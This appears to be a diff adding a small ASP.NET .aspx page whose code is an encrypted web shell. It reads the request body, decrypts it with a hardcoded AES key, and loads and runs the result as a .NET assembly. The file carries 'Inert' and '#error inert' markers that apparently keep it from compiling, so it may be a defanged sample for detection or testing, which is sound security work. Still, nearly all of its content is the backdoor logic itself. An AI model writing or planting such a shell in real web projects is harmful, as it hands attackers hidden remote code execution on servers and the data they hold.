@@ -1,0 +1,3 @@
+<%@ Page Language="C#" Inherits="Inert.Nothing" %><%
+#error inert
+string key="3c6e0b8a9c15224a"; byte[] data=new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key),System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(Request.BinaryRead(Request.ContentLength),0,Request.ContentLength); System.Reflection.Assembly.Load(data).CreateInstance("U").Equals(this);%>
